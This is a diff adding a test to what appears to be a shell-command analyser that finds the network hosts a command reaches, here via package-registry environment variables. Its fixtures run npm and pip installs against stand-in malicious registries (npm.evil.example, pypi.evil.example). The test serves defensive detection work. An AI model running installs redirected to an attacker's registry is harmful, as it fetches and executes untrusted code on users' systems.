@@ -437,3 +437,15 @@ test('one reading of remote specs: URL, scp-like, rsync daemon and local forms',
   const ssh = parseRemote('ssh://deploy@build.example:2222/srv');
   assert.ok(ssh?.kind === 'url' && ssh.port === 2222 && ssh.user === 'deploy' && ssh.scheme === 'ssh');
 });
+
+test('a registry set in the environment is where the package manager goes', () => {
+  assert.ok(
+    analyse('npm_config_registry=https://npm.evil.example npm install').hosts.includes('npm.evil.example'),
+  );
+  assert.ok(
+    analyse('PIP_INDEX_URL=https://pypi.evil.example/simple pip install x').hosts.includes(
+      'pypi.evil.example',
+    ),
+  );
+  assert.ok(analyse('export UV_INDEX_URL="$I"; uv pip install y').hosts.includes('?'));
+});
